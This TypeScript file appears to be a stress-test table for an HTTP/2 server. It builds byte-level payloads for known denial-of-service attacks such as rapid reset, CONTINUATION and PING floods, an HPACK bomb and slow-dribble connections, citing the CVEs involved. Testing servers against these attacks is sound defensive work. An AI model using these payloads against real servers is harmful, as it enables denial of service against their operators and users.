/**
 * What hostile clients of HTTP/2 say: ONE table, a row for each attack.
 *
 *   floods    as many frames as the server takes, of a kind that costs the client little; a connection that is ended is replaced
 *   dribbles  one thing at first, then next to nothing every second
 *
 * In:    targets of a small and of a large file.
 * Out:   octets to be sent.
 * Keeps: pure. A flood has an end (`framesMax`), so that one against a server that takes it all ends, too.
 * Source: CVE-2023-44487 (rapid reset), CVE-2025-8671 (MadeYouReset), CVE-2024-27316 and others (CONTINUATION), CVE-2019-9511 to 9518
 *         (PING, SETTINGS, empty frames, windows); RFC 9113 §10.5.
 */
import {
  clientGreeting,
  fieldBlock,
  frame,
  FrameFlag,
  FrameType,
  getBlock,
  numberFrame,
  PREFACE,
  requestFrame,
  SettingId,
  settingsFrame,
  WINDOW_MAX,
} from "../../../bench/load/http2-frames.ts";

export interface Targets {
  readonly small: string;
  readonly large: string;
}

export interface Flood {
  readonly opening: Buffer;
  /** The frames of one round, from the `index`-th on. */
  batch(index: number): Buffer[];
  readonly framesMax: number;
  /** Reads nothing of what the server answers. */
  readonly isDeaf?: boolean;
}

export interface Dribble {
  readonly opening: Buffer;
  /** Sent in the `second`-th second; null: nothing any more. */
  trickle?(second: number): Buffer | null;
}

const AUTHORITY = "torture.example";
const CANCEL = 8;
const FRAMES_MAX = 50_000;
const GREETING = clientGreeting([]);

/** The client's streams are odd, each higher than the one before. */
const streamOf = (index: number): number => 1 + 2 * index;

const payloadOf = (octets: number): Buffer => Buffer.alloc(octets, "a");

function open(stream: number, block: Buffer): Buffer {
  return frame(FrameType.Headers, FrameFlag.EndHeaders, stream, block);
}

function postBlock(path: string, octets: number): Buffer {
  return fieldBlock([
    [":method", "POST"],
    [":scheme", "https"],
    [":authority", AUTHORITY],
    [":path", path],
    ["content-length", String(octets)],
  ]);
}

function repeated(octets: Buffer, framesMax: number, opening = GREETING): Flood {
  return { opening, batch: () => [octets], framesMax };
}

function priorityUpdate(index: number): Buffer {
  const stream = Buffer.alloc(4);
  stream.writeUInt32BE(streamOf(index % 1000));
  return frame(FrameType.PriorityUpdate, FrameFlag.None, 0, Buffer.concat([stream, Buffer.from("u=1, i")]));
}

function priority(index: number): Buffer {
  return frame(FrameType.Priority, FrameFlag.None, streamOf(index % 1000), Buffer.from([0, 0, 0, 0, 15]));
}

/** One field of 4 000 octets put into the dynamic table (RFC 7541 §6.2.1), then referred to by an octet each: 20 KB stand for 60 MB. */
function bomb(target: string): Flood {
  const literal = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from("x"),
    Buffer.from([127, 0xa1, 0x1e]),
    payloadOf(4000),
  ]);
  const references = Buffer.alloc(12_000, 0xbe);
  const block = Buffer.concat([getBlock(target, AUTHORITY), literal, references]);
  return { opening: GREETING, batch: (index) => [requestFrame(streamOf(index), block)], framesMax: 500 };
}

export function floodsOf({ small, large }: Targets): Readonly<Record<string, Flood>> {
  const get = getBlock(small, AUTHORITY);
  const getLarge = getBlock(large, AUTHORITY);
  const noWindows = clientGreeting([[SettingId.InitialWindowSize, 0]]);
  return {
    "rapid-reset": {
      opening: GREETING,
      batch: (index) => [requestFrame(streamOf(index), get), numberFrame(FrameType.RstStream, streamOf(index), CANCEL)],
      framesMax: FRAMES_MAX,
    },
    "rapid-reset-large": {
      opening: noWindows,
      batch: (index) => [
        requestFrame(streamOf(index), getLarge),
        numberFrame(FrameType.RstStream, streamOf(index), CANCEL),
      ],
      framesMax: FRAMES_MAX,
    },
    "reset-by-empty-window": {
      opening: noWindows,
      batch: (index) => [
        requestFrame(streamOf(index), getLarge),
        numberFrame(FrameType.WindowUpdate, streamOf(index), 0),
      ],
      framesMax: FRAMES_MAX,
    },
    "reset-by-window-overflow": {
      opening: clientGreeting([[SettingId.InitialWindowSize, 1]]),
      batch: (index) => [
        requestFrame(streamOf(index), getLarge),
        numberFrame(FrameType.WindowUpdate, streamOf(index), WINDOW_MAX),
      ],
      framesMax: FRAMES_MAX,
    },
    "reset-by-content-length": {
      opening: GREETING,
      batch: (index) => [
        open(streamOf(index), postBlock(small, 5)),
        frame(FrameType.Data, FrameFlag.EndStream, streamOf(index), payloadOf(10)),
      ],
      framesMax: FRAMES_MAX,
    },
    continuation: repeated(
      frame(FrameType.Continuation, FrameFlag.None, 1, fieldBlock([["x", payloadOf(900).toString()]])),
      20_000,
      Buffer.concat([GREETING, frame(FrameType.Headers, FrameFlag.EndStream, 1, get)]),
    ),
    "empty-continuation": repeated(
      frame(FrameType.Continuation, FrameFlag.None, 1),
      FRAMES_MAX,
      Buffer.concat([GREETING, frame(FrameType.Headers, FrameFlag.EndStream, 1, get)]),
    ),
    settings: repeated(settingsFrame([[SettingId.InitialWindowSize, 65_535]]), FRAMES_MAX),
    ping: repeated(frame(FrameType.Ping, FrameFlag.None, 0, payloadOf(8)), FRAMES_MAX),
    "ping-unread": {
      ...repeated(frame(FrameType.Ping, FrameFlag.None, 0, payloadOf(8)), 20 * FRAMES_MAX),
      isDeaf: true,
    },
    priority: { opening: GREETING, batch: (index) => [priority(index)], framesMax: FRAMES_MAX },
    "priority-update": { opening: GREETING, batch: (index) => [priorityUpdate(index)], framesMax: FRAMES_MAX },
    "empty-data": repeated(
      frame(FrameType.Data, FrameFlag.None, 1),
      FRAMES_MAX,
      Buffer.concat([GREETING, open(1, postBlock(small, 1000))]),
    ),
    "window-update": repeated(
      numberFrame(FrameType.WindowUpdate, 1, 1),
      FRAMES_MAX,
      Buffer.concat([noWindows, requestFrame(1, getLarge)]),
    ),
    "hpack-bomb": bomb(small),
  };
}

export function dribblesOf({ small, large }: Targets): Readonly<Record<string, Dribble>> {
  const zero = clientGreeting([[SettingId.InitialWindowSize, 0]]);
  const ask = requestFrame(1, getBlock(large, AUTHORITY));
  const head = frame(
    FrameType.Headers,
    FrameFlag.EndHeaders | FrameFlag.EndStream,
    1,
    fieldBlock([["x", payloadOf(1000).toString()]]),
  );
  const post = Buffer.concat([GREETING, open(1, postBlock(small, 100_000))]);
  return {
    /** A preface, and no request. */
    "no-request": { opening: GREETING },
    /** One request, its answer, and then nothing. */
    answered: { opening: Buffer.concat([GREETING, requestFrame(1, getBlock(small, AUTHORITY))]) },
    /** Half a preface. */
    "half-preface": { opening: PREFACE.subarray(0, 10) },
    /** TLS, and nothing more. */
    "no-preface": { opening: Buffer.alloc(0) },
    /** A response that has no window to go into. */
    "zero-window": { opening: Buffer.concat([zero, ask]) },
    /** One that has room for an octet a second. */
    "one-octet-window": {
      opening: Buffer.concat([zero, ask]),
      trickle: () => numberFrame(FrameType.WindowUpdate, 1, 1),
    },
    /** A HEADERS frame, an octet a second. */
    "head-dribble": {
      opening: Buffer.concat([GREETING, head.subarray(0, 12)]),
      trickle: (second) => head.subarray(12 + second, 13 + second),
    },
    /** A field block in CONTINUATION frames, one a second. */
    "continuation-dribble": {
      opening: Buffer.concat([GREETING, frame(FrameType.Headers, FrameFlag.EndStream, 1, getBlock(small, AUTHORITY))]),
      trickle: () => frame(FrameType.Continuation, FrameFlag.None, 1, fieldBlock([["x", "a"]])),
    },
    /** Content in DATA frames of an octet, one a second. */
    "data-dribble": {
      opening: post,
      trickle: () => frame(FrameType.Data, FrameFlag.None, 1, payloadOf(1)),
    },
  };
}
